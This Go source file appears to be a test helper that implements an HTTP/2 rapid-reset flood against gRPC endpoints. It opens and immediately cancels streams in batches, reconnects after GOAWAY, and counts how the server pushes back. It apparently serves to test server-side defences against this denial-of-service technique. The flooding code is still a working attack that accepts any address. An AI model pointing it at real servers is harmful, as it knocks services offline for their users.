// Package h2guardtest is an HTTP/2 rapid-reset attacker for tests: it opens
// a stream and resets it at once, over and over, reconnecting whenever the
// server sends GOAWAY or closes.
package h2guardtest

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Stats is what a flood did.
type Stats struct {
	Pairs   int64 // streams opened and reset
	Conns   int64 // connections opened
	Goaways int64 // GOAWAY frames received
	Calm    int64 // of which ENHANCE_YOUR_CALM
}

// Flood attacks addr (host:port, or unix:PATH) until ctx is done, opening streams on path (a gRPC
// method such as /grpc.health.v1.Health/Check) and resetting each at once,
// in batches of 64 pairs per write.
func Flood(ctx context.Context, addr, path string) Stats {
	var st Stats
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", path}, {":authority", addr},
		{"content-type", "application/grpc"}, {"te", "trailers"}} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	for ctx.Err() == nil {
		st.Conns++
		one(ctx, addr, block.Bytes(), &st)
	}
	return st
}

// one floods one connection until it breaks or ctx is done.
func one(ctx context.Context, addr string, block []byte, st *Stats) {
	d := net.Dialer{Timeout: time.Second}
	network := "tcp"
	if path, ok := strings.CutPrefix(addr, "unix:"); ok {
		network, addr = "unix", path
	}
	c, err := d.DialContext(ctx, network, addr)
	if err != nil {
		time.Sleep(10 * time.Millisecond)
		return
	}
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	var broken atomic.Bool
	go func() { // read everything the server sends, noting GOAWAY
		fr := http2.NewFramer(nil, bufio.NewReader(c))
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				broken.Store(true)
				return
			}
			if g, ok := f.(*http2.GoAwayFrame); ok {
				atomic.AddInt64(&st.Goaways, 1)
				if g.ErrCode == http2.ErrCodeEnhanceYourCalm {
					atomic.AddInt64(&st.Calm, 1)
				}
				broken.Store(true)
			}
		}
	}()
	w := bufio.NewWriterSize(c, 64<<10)
	fr := http2.NewFramer(w, nil)
	if _, err := w.WriteString(http2.ClientPreface); err != nil {
		return
	}
	if fr.WriteSettings() != nil {
		return
	}
	for id := uint32(1); id < 1<<31-256 && !broken.Load() && ctx.Err() == nil; {
		for range 64 {
			_ = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
			_ = fr.WriteRSTStream(id, http2.ErrCodeCancel)
			id += 2
		}
		if err := w.Flush(); err != nil {
			return
		}
		atomic.AddInt64(&st.Pairs, 64)
	}
}

// ErrNoProc is returned by CPU where /proc is not there.
var ErrNoProc = errors.New("no /proc")
